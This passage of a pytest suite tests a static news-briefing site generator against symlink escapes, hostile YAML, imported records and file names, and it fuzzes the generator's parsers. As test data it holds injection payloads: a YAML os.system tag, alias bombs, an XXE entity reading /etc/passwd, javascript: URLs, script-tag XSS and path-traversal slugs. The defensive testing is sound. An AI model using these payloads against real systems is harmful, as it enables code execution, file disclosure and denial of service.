                problems.append(f"{rel}: {found}")
    assert not problems, problems[:30]


def test_site_holds_only_expected_file_types(hostile: HostileBuild) -> None:
    allowed = {".html", ".json", ".xml", ".txt", ".css", ".js", ".pf_fragment", ".pf_index",
               ".pf_meta", ".pagefind", ""}
    theme_static = {p.relative_to(REPO / "themes" / "default").as_posix()
                    for p in (REPO / "themes" / "default" / "static").rglob("*")}
    odd = [p for p in _output_files(hostile)
           if p.suffix not in allowed and p.relative_to(hostile.site).as_posix() not in theme_static]
    assert not odd, odd
    links = [p for p in hostile.site.rglob("*") if p.is_symlink()]
    assert not links, links


# ---------------------------------------------------------------------------
# Rebuilds, cleaning and symlinked outputs
# ---------------------------------------------------------------------------

def test_theme_search_script_never_inserts_indexed_text_as_html() -> None:
    """Pagefind's index holds page text as data (with its < and >); only text nodes may show it."""
    script = (REPO / "themes" / "default" / "static" / "search.js").read_text(encoding="utf-8")
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "Function("):
        assert sink not in script, sink


@dataclass
class CliRun:
    code: int
    out: str
    err: str


@pytest.fixture
def briefgen_cli(capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch):
    """The command line in this process (fast: models stay loaded); a Python exception fails the test."""
    from briefgen import cli

    for key in list(os.environ):
        if key.startswith("BRIEFGEN_"):
            monkeypatch.delenv(key)

    def run(project: Path, *args: str) -> CliRun:
        capsys.readouterr()
        code = cli.main([*args, "--project", str(project)])
        captured = capsys.readouterr()
        return CliRun(code, captured.out, captured.err)

    return run


def _small_project(root: Path) -> Path:
    """The two sample articles, search off (Pagefind is covered by the hostile build)."""
    articles = root / "content" / "articles"
    articles.mkdir(parents=True)
    for seed in sorted(SEED_ARTICLES.glob("*.txt")):
        shutil.copyfile(seed, articles / seed.name)
    _write(root / "briefgen.yaml", "search: false\n")
    return root


def _site_texts(project: Path) -> str:
    site = project / "site"
    if not site.exists():
        return ""
    return "\n".join(p.read_bytes().decode("utf-8", "replace") for p in sorted(site.rglob("*")) if p.is_file())


def test_clean_refuses_a_foreign_site_folder(tmp_path: Path, briefgen_cli) -> None:
    project = _small_project(tmp_path / "desk")
    _write(project / "site" / "index.html", "<p>someone else's site</p>")
    _write(project / "site" / "notes" / "keep.txt", "keep me")
    result = briefgen_cli(project, "clean")
    assert result.code != 0
    assert "site" in result.err and "refus" in result.err
    assert (project / "site" / "index.html").read_text() == "<p>someone else's site</p>"
    assert (project / "site" / "notes" / "keep.txt").is_file()


def test_build_refuses_to_write_into_a_foreign_site_folder(tmp_path: Path, briefgen_cli) -> None:
    project = _small_project(tmp_path / "desk")
    _write(project / "site" / "index.html", "<p>someone else's site</p>")
    result = briefgen_cli(project, "build")
    assert result.code != 0
    assert sorted(p.name for p in (project / "site").iterdir()) == ["index.html"]
    assert (project / "site" / "index.html").read_text() == "<p>someone else's site</p>"


def test_clean_removes_only_what_briefgen_wrote(tmp_path: Path, briefgen_cli) -> None:
    project = _small_project(tmp_path / "desk")
    assert briefgen_cli(project, "build").code == 0
    before = tree_state(project / "content")
    result = briefgen_cli(project, "clean")
    assert result.code == 0
    assert not (project / "site").exists() and not (project / ".briefgen").exists()
    assert tree_state(project / "content") == before


def test_clean_and_build_never_follow_a_symlinked_site_folder(tmp_path: Path, briefgen_cli) -> None:
    """site/ linked to a folder that even carries briefgen's marker: nothing out there changes."""
    project = _small_project(tmp_path / "desk")
    elsewhere = tmp_path / "elsewhere"
    _write(elsewhere / ".briefgen-site", json.dumps({"generator": "briefgen", "files": ["index.html"]}))
    _write(elsewhere / "index.html", "precious")
    os.symlink(elsewhere, project / "site")
    before = tree_state(elsewhere)
    for command in ("clean", "build"):
        assert briefgen_cli(project, command).code != 0, command
    assert tree_state(elsewhere) == before


def test_site_subfolder_linked_outside_is_not_written_through(tmp_path: Path, briefgen_cli) -> None:
    project = _small_project(tmp_path / "desk")
    assert briefgen_cli(project, "build").code == 0
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(project / "site" / "actors")
    os.symlink(elsewhere, project / "site" / "actors")
    (project / "content" / "articles" / "000_c581fe545c0f88e6.txt").touch()
    briefgen_cli(project, "build")
    assert list(elsewhere.iterdir()) == []


def test_clean_never_follows_a_symlinked_cache_folder(tmp_path: Path, briefgen_cli) -> None:
    project = _small_project(tmp_path / "desk")
    elsewhere = tmp_path / "elsewhere"
    _write(elsewhere / "precious.txt", "precious")
    os.symlink(elsewhere, project / ".briefgen")
    before = tree_state(elsewhere)
    try:
        briefgen_cli(project, "clean")
    finally:
        assert tree_state(elsewhere) == before


def test_build_never_writes_through_a_symlinked_cache_folder(tmp_path: Path, briefgen_cli) -> None:
    project = _small_project(tmp_path / "desk")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.symlink(elsewhere, project / ".briefgen")
    briefgen_cli(project, "build")
    assert list(elsewhere.iterdir()) == []


def test_symlinked_briefing_file_is_not_followed(tmp_path: Path, briefgen_cli) -> None:
    project = _small_project(tmp_path / "desk")
    secret = tmp_path / "secret.yaml"
    secret.write_text(f"title: Secret {TOKEN}\nnotes: kept outside\n", encoding="utf-8")
    before = secret.read_bytes()
    (project / "content" / "briefings").mkdir(parents=True)
    os.symlink(secret, project / "content" / "briefings" / "linked.yaml")
    result = briefgen_cli(project, "build")
    assert "content/briefings/linked.yaml" in result.err
    assert secret.read_bytes() == before
    assert os.path.islink(project / "content" / "briefings" / "linked.yaml")
    assert TOKEN not in _site_texts(project)


def test_symlinked_briefings_folder_is_not_followed(tmp_path: Path, briefgen_cli) -> None:
    """content/briefings itself linked out of the project: never read, never written."""
    project = _small_project(tmp_path / "desk")
    elsewhere = tmp_path / "elsewhere"
    _write(elsewhere / "secret.yaml", f"title: Secret {TOKEN}\nnotes: kept outside\n")
    os.symlink(elsewhere, project / "content" / "briefings")
    before = tree_state(elsewhere)
    result = briefgen_cli(project, "build")
    assert result.code == 1 and "content/briefings" in result.err, result.err
    assert tree_state(elsewhere) == before
    assert TOKEN not in _site_texts(project)


def test_symlinked_merge_record_is_not_written_through(tmp_path: Path, briefgen_cli) -> None:
    """A merge record linked out of the project: the build replaces the link, not the target."""
    project = _small_project(tmp_path / "desk")
    assert briefgen_cli(project, "build").code == 0
    records = project / "content" / "briefings" / "merge-records"
    record = min(records.glob("b-*.json"))
    outside = tmp_path / "outside-record.json"
    outside.write_bytes(record.read_bytes())
    record.unlink()
    os.symlink(outside, record)
    before = outside.read_bytes()
    _write(project / "content" / "articles" / "extra.md", _front("title: A new article arrives"))
    briefgen_cli(project, "build")
    assert outside.read_bytes() == before


def test_symlinked_content_folder_outside_is_refused(tmp_path: Path, briefgen_cli) -> None:
    project = tmp_path / "desk"
    project.mkdir()
    _write(project / "briefgen.yaml", "search: false\n")
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(SEED_ARTICLES, elsewhere / "articles")
    (project / "content").mkdir()
    os.symlink(elsewhere / "articles", project / "content" / "articles")
    result = briefgen_cli(project, "build")
    assert "content/articles" in result.err and "outside" in result.err
    assert not list((project / "site").glob("briefings/*.html"))


def test_hostile_briefing_yaml_is_refused_with_its_location(tmp_path: Path, briefgen_cli) -> None:
    """Tags, aliases, script URLs and traversing slugs in a briefing file: named, never built."""
    project = _small_project(tmp_path / "desk")
    canary = tmp_path / f"pwned-yaml-{TOKEN}"
    cases = {
        "tag.yaml": f'title: !!python/object/apply:os.system ["touch {canary}"]\n',
        "alias.yaml": "title: &t x\nnotes: *t\n",
        "bomb.yaml": "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                     "title: t\nnotes: *b\n",
        "script-url.yaml": "title: t\nsources:\n  - key: k\n    title: t\n    url: javascript:alert(1)\n",
        "data-url.yaml": "title: t\nsources:\n  - key: k\n    title: t\n    url: 'data:text/html,x'\n",
        "slug.yaml": "title: t\nslug: ../../../../pwned\n",
        "merged.yaml": "title: t\nmerged_into: ../../etc\n",
        "old-slugs.yaml": "title: t\nold_slugs: [../../../x]\n",
        "id.yaml": "title: t\nid: ../../../x\n",
        "article-id.yaml": "title: t\narticles: [\"../../../etc/passwd\\nx\"]\n",
        "binary.yaml": "title: t\nnotes: !!binary aGVsbG8=\n",
        "set.yaml": "title: t\nnotes: !!set {a, b}\n",
        "not-utf8.yaml": "title: caf\xe9\n".encode("latin-1"),
    }
    for name, text in cases.items():
        _write(project / "content" / "briefings" / name, text)
    before = tree_state(project / "content")
    for command in ("check", "build"):
        result = briefgen_cli(project, command)
        assert result.code == 1, (command, result.out, result.err)
        for name in cases:
            lines = [line for line in result.err.splitlines() if f"content/briefings/{name}" in line]
            assert lines, (command, name, result.err)
        for name in ("tag.yaml", "alias.yaml", "bomb.yaml", "script-url.yaml", "slug.yaml", "id.yaml"):
            lines = [line for line in result.err.splitlines() if f"content/briefings/{name}:" in line]
            assert any(line.split(f"{name}:", 1)[1].split(":", 1)[0].isdigit() for line in lines), lines
    assert tree_state(project / "content") == before  # a broken briefing file stops the build
    assert not canary.exists()
    assert not (project / "site").exists()
    assert not list(tmp_path.glob("pwned*")) and not list(tmp_path.parent.glob("pwned*"))


def test_import_keeps_hostile_records_inert(tmp_path: Path, briefgen_cli) -> None:
    """Imported titles cannot inject front matter or pick a path; feeds cannot declare entities."""
    project = _small_project(tmp_path / "desk")
    rows = [
        {"title": "Injected\nurl: javascript:alert(1)\n---\n<script>x</script>", "source": "S: x\n---",
         "text": "At least 12 people were killed, officials said.\n---\ntitle: second",
         "url": "https://example.org/a"},
        {"title": f"../../../../pwned-import-{TOKEN}", "text": "At least 13 people were killed, officials said.",
         "url": "javascript:alert(1)"},
        {"title": "!!python/object/apply:os.system ['true']", "author": "&a [*a]",
         "text": "At least 14 people were killed, officials said."},
    ]
    _write(tmp_path / "export.jsonl", "\n".join(json.dumps(row) for row in rows))
    _write(tmp_path / "feed.xml", '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM '
           '"file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
           "<rss><channel><title>T</title><item><title>Feed &xxe; &b;</title><description>At least 15 "
           "people were killed, officials said.</description><link>https://e.org/x</link></item></channel></rss>")
    before_outside = tree_state(tmp_path, skip=project)
    result = briefgen_cli(project, "import", str(tmp_path / "export.jsonl"), str(tmp_path / "feed.xml"))
    assert "feed.xml" in result.err
    assert tree_state(tmp_path, skip=project) == before_outside
    imported = sorted(set((project / "content" / "articles").glob("*.md")))
    assert len(imported) == 3, imported
    from briefgen.config import Settings
    from briefgen.diagnostics import Diagnostics

    diagnostics = Diagnostics()
    articles = {a.path: a for a in ingest.read_articles(Project(project), Settings(), diagnostics)}
    assert not diagnostics.warnings, diagnostics.warnings
    for path in imported:
        article = articles[path.relative_to(project).as_posix()]
        assert article.url in (None, "https://example.org/a"), article
        assert "root:x:0:0" not in article.text


LANGUAGE_ATTACK = 'en"><script>alert(1)</script>'


def test_settings_file_cannot_inject_markup(tmp_path: Path, briefgen_cli) -> None:
    """briefgen.yaml is the user's own, but its strings still land in HTML: escaped."""
    project = _small_project(tmp_path / "desk")
    _write(project / "briefgen.yaml", "search: false\n"
           f"title: {json.dumps(XSS)}\ndescription: {json.dumps(XSS)}\nlanguage: {json.dumps(LANGUAGE_ATTACK)}\n")
    assert briefgen_cli(project, "build").code == 0
    for page in sorted((project / "site").rglob("*.html")):
        scan = _PageScan()
        scan.feed(page.read_text(encoding="utf-8"))
        assert not scan.problems, (page.name, scan.problems)
        assert scan.scripts == [], page.name
    for name, value in (("site_url", "javascript:alert(1)//"), ("theme", "../../../etc"), ("cname", None)):
        if value is None:
            continue
        _write(project / "briefgen.yaml", f"{name}: {json.dumps(value)}\n")
        result = briefgen_cli(project, "build")
        assert result.code == 2 and "briefgen.yaml" in result.err, (name, result.err)


# ---------------------------------------------------------------------------
# Known crashes found by this suite
# ---------------------------------------------------------------------------

def test_huge_number_in_article_text_does_not_crash_extraction() -> None:
    from briefgen import extract
    from briefgen.models import Article

    text = f"Officials said {'9' * 400} people were killed in the shelling on Monday.\n\n{NEWS}"
    article = Article(id="huge", path="content/articles/huge.txt", title="Huge numbers", text=text,
                      source=None, url=None, published=None, author=None, digest="0" * 64)
    extraction = extract.extract([article], {})
    assert all(f.value < 10 ** 12 for f in extraction.figures)


@pytest.mark.parametrize("front", [
    pytest.param("x: " + "[" * 900 + "]" * 900, id="fast-loader"),
    pytest.param("x: " + "[" * 2_000 + "]" * 2_000 + "\ny: '*'", id="checking-loader"),
    pytest.param("x:\n" + "".join(" " * (2 * i) + f"k{i}:\n" for i in range(1, 600)), id="block"),
])
def test_deeply_nested_front_matter_is_refused_not_a_crash(front: str) -> None:
    text = _front("title: Deep\n" + front)
    try:
        ingest.parse_text_article(text, "content/articles/deep.md", True, _report_sink([]))
    except ingest.Unreadable as exc:
        assert exc.message


def test_load_yaml_refuses_deep_nesting_with_a_located_problem() -> None:
    with pytest.raises(BriefgenError):
        load_yaml("x: " + "[" * 2_000 + "]" * 2_000 + "\ny: '*'", "briefgen.yaml")


def test_very_deeply_nested_front_matter_does_not_kill_the_process(tmp_path: Path) -> None:
    project = _small_project(tmp_path / "desk")
    _write(project / "content" / "articles" / "deep.md", _front("title: Deep\nx: " + "- " * 100_000 + "x"))
    code = ("import sys; from pathlib import Path; from briefgen import ingest; from briefgen.config import Project, Settings; "
            "from briefgen.diagnostics import Diagnostics; d = Diagnostics(); "
            "ingest.read_articles(Project(Path(sys.argv[1])), Settings(), d); "
            "print('\\n'.join(str(w) for w in d.warnings))")
    result = subprocess.run([sys.executable, "-c", code, str(project)], capture_output=True, text=True,
                            timeout=60, check=False, cwd=REPO)
    assert result.returncode == 0, (result.returncode, result.stderr[-1000:])
    assert "content/articles/deep.md" in result.stdout


@pytest.mark.parametrize("text", [
    pytest.param("title: x\nnotes: " + "[" * 2_000 + "]" * 2_000, id="fast-loader"),
    pytest.param("title: x\nnotes: " + "[" * 2_000 + "]" * 2_000 + " # *&", id="checking-loader"),
    pytest.param("title: x\nnotes: " + "[" * 100_000, id="hundred-thousand"),
    pytest.param("title: x\nnotes:\n" + "".join(" " * (2 * i) + f"k{i}:\n" for i in range(1, 600)),
                 id="block"),
])
def test_deeply_nested_briefing_yaml_is_a_located_problem(tmp_path: Path, text: str) -> None:
    project = _small_project(tmp_path / "desk")
    _write(project / "content" / "briefings" / "deep.yaml", text)
    problems = briefing.check(Project(project))
    assert any(p.path == "content/briefings/deep.yaml" and p.line for p in problems), problems


# ---------------------------------------------------------------------------
# File names that are themselves hostile
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("name", [
    pytest.param("new\nline.txt", id="newline"),
    pytest.param("tab\tand 'quotes' \"double\" & <b>.txt", id="quotes"),
    pytest.param("\u202eevil\u200b-rtl.txt", id="bidi"),
    pytest.param(os.fsdecode(b"caf\xe9-not-utf8.txt"), id="not-utf8"),
])
def test_odd_file_names_do_not_break_later_builds(tmp_path: Path, name: str, briefgen_cli) -> None:
    """A file name becomes an article id: it must never make a build (or the next one) fail."""
    project = _small_project(tmp_path / "desk")
    (project / "content" / "articles" / name).write_text("An article with an odd file name\n\n" + NEWS,
                                                         encoding="utf-8")
    for attempt in (1, 2):
        (project / "content" / "articles" / "000_c581fe545c0f88e6.txt").touch()  # not up to date
        result = briefgen_cli(project, "build")
        assert result.code == 0, (attempt, result.err[-2000:])
        export = json.loads((project / "site" / "briefings.json").read_text(encoding="utf-8"))
        listed = {article for b in export["briefings"] for article in b["articles"]}
        read = name[: -len(".txt")] in listed
        assert read or "content/articles/" in result.err, "the file is neither read nor named in a warning"
    for page in sorted((project / "site").rglob("*.html")):
        scan = _PageScan()
        scan.feed(page.read_text(encoding="utf-8"))
        assert not scan.problems, (page.name, scan.problems)


def test_unchanged_rebuild_under_strict_still_fails(tmp_path: Path, briefgen_cli) -> None:
    """A second --strict build with nothing changed must not hide the first one's warnings."""
    project = _small_project(tmp_path / "desk")
    _write(project / "content" / "articles" / "empty.txt", b"")
    first = briefgen_cli(project, "build", "--strict")
    assert first.code == 1 and "content/articles/empty.txt" in first.err
    again = briefgen_cli(project, "build", "--strict")
    assert again.code == 1, again.out + again.err


# ---------------------------------------------------------------------------
# Property tests: random input to the readers
# ---------------------------------------------------------------------------

#: Derandomized (the same examples on every run, as CI needs) and no example database in the repo.
PROPERTY_SETTINGS = settings(max_examples=120, deadline=5_000, derandomize=True, database=None,
                             suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                                    HealthCheck.function_scoped_fixture])

#: Characters YAML and front matter care about, weighted in.
YAML_ALPHABET = st.sampled_from(list("-:[]{}#&*!|>'\"%@`,?~ \t\n\r\\.0123456789aezTZ") +
                                ["---", "...", "!!", "!!python/object:os.system", "&a", "*a", "<<: ",
                                 "\ufeff", "\x00", "\u2028", "\x85", "é", "2020-02-31", "1e999",
                                 "<script>", "\ud800"])
yamlish_text = st.one_of(
    st.text(max_size=400),
    st.lists(YAML_ALPHABET, max_size=200).map("".join),
    st.lists(st.one_of(YAML_ALPHABET, st.text(max_size=8)), max_size=80).map("".join),
)
front_matter_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), st.text(max_size=40),
              st.dates().map(str)),
    lambda children: st.one_of(st.lists(children, max_size=4),
                               st.dictionaries(st.text(max_size=10), children, max_size=4)),
    max_leaves=12,
)
FRONT_KEYS = st.sampled_from(["title", "source", "url", "author", "published", "id", "slug", "x"])


def _report_sink(problems: list[tuple]) -> ingest.Report:
    def report(message: str, line: int | None = None, column: int | None = None) -> None:
        assert isinstance(message, str) and message
        problems.append((message, line, column))
    return report


@PROPERTY_SETTINGS
@given(text=yamlish_text, markdown=st.booleans())
def test_parse_text_article_never_crashes(text: str, markdown: bool) -> None:
    problems: list[tuple] = []
    try:
        fields = ingest.parse_text_article(text, "content/articles/x.md", markdown, _report_sink(problems))
    except ingest.Unreadable as exc:
        assert exc.message
        return
    assert isinstance(fields.title, str) and "\n" not in fields.title
    assert len(fields.title) <= ingest.MAX_TITLE_CHARS
    assert fields.url is None or fields.url.lower().startswith(("http://", "https://"))


@PROPERTY_SETTINGS
@given(meta=st.dictionaries(FRONT_KEYS, front_matter_values, max_size=6), body=st.text(max_size=300),
       crlf=st.booleans(), bom=st.booleans())
def test_random_front_matter_never_crashes(meta: dict, body: str, crlf: bool, bom: bool) -> None:
    import yaml

    front = yaml.safe_dump(meta, allow_unicode=True) if meta else ""
    text = ("\ufeff" if bom else "") + f"---\n{front}---\n{body}"
    if crlf:
        text = text.replace("\n", "\r\n")
    problems: list[tuple] = []
    try:
        fields = ingest.parse_text_article(text, "content/articles/x.md", True, _report_sink(problems))
    except ingest.Unreadable as exc:
        assert exc.message
        return
    assert fields.url is None or fields.url.lower().startswith(("http://", "https://"))
    assert fields.source is None or "\n" not in fields.source
    assert fields.published is None or hasattr(fields.published, "isoformat")


@PROPERTY_SETTINGS
@given(data=st.one_of(st.binary(max_size=600),
                      st.text(max_size=300).map(lambda t: t.encode("utf-8", "surrogatepass")),
                      st.text(max_size=300).map(lambda t: t.encode("cp1252", "replace")),
                      st.text(max_size=200).map(lambda t: t.encode("utf-16"))))
def test_decode_bytes_never_crashes(data: bytes) -> None:
    try:
        text, note = ingest.decode_bytes(data)
    except ingest.Unreadable as exc:
        assert exc.message
        return
    assert isinstance(text, str)
    assert note is None or "not UTF-8" in note


@PROPERTY_SETTINGS
@given(text=st.text(max_size=600))
def test_text_cleaners_never_crash(text: str) -> None:
    cleaned = ingest.clean_text(text)
    assert ingest.clean_text(cleaned) == cleaned  # idempotent, as documented
    title = ingest.clean_title(text)
    assert "\n" not in title and len(title) <= ingest.MAX_TITLE_CHARS
    assert ingest.clean_url(text) is None or ingest.clean_url(text).lower().startswith(("http://", "https://"))
    ingest.clean_meta_text(text)
    ingest.looks_like_html(text)
    try:
        ingest.parse_published(text)
    except ValueError:
        pass
    try:
        ingest.split_front_matter(text)
    except ValueError:
        pass


@PROPERTY_SETTINGS
@given(fragment=st.one_of(st.text(max_size=300),
                          st.lists(st.sampled_from(["<p>", "</p>", "<script>", "</script>", "<br>", "<div",
                                                    ">", "<!--", "-->", "&amp;", "&#0;", "<![CDATA[", "]]>",
                                                    "<a href='javascript:x'>", "text", "\x00", "<svg"]),
                                   max_size=40).map("".join)))
def test_html_fragment_to_text_never_crashes(fragment: str) -> None:
    text = ingest.html_fragment_to_text(fragment)
    assert isinstance(text, str)
    if "alert" not in fragment:
        assert "alert" not in text


@PROPERTY_SETTINGS
@given(data=st.one_of(st.binary(max_size=400),
                      yamlish_text.map(lambda t: t.encode("utf-8", "surrogatepass"))),
       suffix=st.sampled_from([".txt", ".md", ".html"]))
def test_read_articles_survives_any_file(tmp_path_factory: pytest.TempPathFactory, data: bytes,
                                         suffix: str) -> None:
    from briefgen.config import Settings
    from briefgen.diagnostics import Diagnostics

    root = tmp_path_factory.mktemp("random-article")
    path = root / "content" / "articles" / f"random{suffix}"
    _write(path, data)
    diagnostics = Diagnostics()
    articles = ingest.read_articles(Project(root), Settings(), diagnostics)
    assert len(articles) <= 1
    for warning in diagnostics.warnings:
        assert warning.path == f"content/articles/random{suffix}", warning
    if not articles:
        assert any(w.message.startswith("skipped") for w in diagnostics.warnings), diagnostics.warnings
    assert path.read_bytes() == data


@PROPERTY_SETTINGS
@given(text=yamlish_text)
def test_load_yaml_raises_only_briefgen_errors(text: str) -> None:
    started = time.monotonic()
    try:
        load_yaml(text, "x.yaml")
    except BriefgenError as exc:
        assert all(isinstance(p, Problem) and p.path == "x.yaml" for p in exc.problems)
    assert time.monotonic() - started < 5


@PROPERTY_SETTINGS
@given(text=st.one_of(yamlish_text,
                      st.dictionaries(st.sampled_from(["title", "notes", "slug", "id", "summary", "figures",
                                                       "sources", "articles", "version", "x"]),
                                      front_matter_values, max_size=5)
                      .map(lambda d: __import__("yaml").safe_dump(d, allow_unicode=True))))
def test_briefing_check_returns_problems_for_any_text(tmp_path_factory: pytest.TempPathFactory,
                                                      text: str) -> None:
    root = tmp_path_factory.mktemp("random-briefing")
    (root / "content" / "articles").mkdir(parents=True)
    _write(root / "content" / "briefings" / "random.yaml", text.encode("utf-8", "surrogatepass"))
    started = time.monotonic()
    try:
        problems = briefing.check(Project(root))
    except BriefgenError as exc:
        problems = exc.problems
    assert time.monotonic() - started < 5
    assert all(isinstance(p, Problem) for p in problems)
    for problem in problems:
        assert problem.path.startswith("content/briefings/"), problem


@PROPERTY_SETTINGS
@given(title=st.text(min_size=1, max_size=80), notes=st.one_of(st.none(), st.text(max_size=200)),
       summary=st.lists(st.text(min_size=1, max_size=120), max_size=3))
def test_briefing_yaml_round_trip_keeps_any_text(tmp_path_factory: pytest.TempPathFactory, title: str,
                                                 notes: str | None, summary: list[str]) -> None:
    """Whatever text an editor types, writing the briefing back reads as the same values."""
    import yaml

    from briefgen.briefing_yaml import render

    root = tmp_path_factory.mktemp("round-trip")
    (root / "content" / "articles").mkdir(parents=True)
    doc = {"title": title, "notes": notes, "summary": [{"text": t} for t in summary]}
    text = yaml.safe_dump(doc, allow_unicode=True)
    path = root / "content" / "briefings" / "edited.yaml"
    _write(path, text.encode("utf-8", "surrogatepass"))
    try:
        store = briefing.load_all(Project(root))
    except BriefgenError:
        return  # refused with a located problem: fine
    (stored,) = store.briefings.values()
    written, _layout = render(stored.doc, stored.text)
    _write(path, written)
    again = briefing.load_all(Project(root))
    (reread,) = again.briefings.values()
    assert reread.doc == stored.doc
